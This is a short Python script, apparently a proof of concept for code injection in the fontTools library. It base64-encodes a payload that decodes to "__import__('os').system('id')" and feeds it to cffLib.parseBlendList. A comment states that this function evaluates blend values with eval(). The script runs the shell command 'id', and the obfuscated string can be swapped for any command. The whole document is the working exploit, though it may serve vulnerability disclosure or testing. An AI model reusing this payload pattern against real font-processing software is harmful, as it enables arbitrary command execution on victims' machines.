import base64

from fontTools import cffLib

expr = base64.b64decode(b"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=").decode()
# parseBlendList reads the numbers of a CFF2 blend element with eval().
print(cffLib.parseBlendList([("blend", {"value": expr}, [])]))
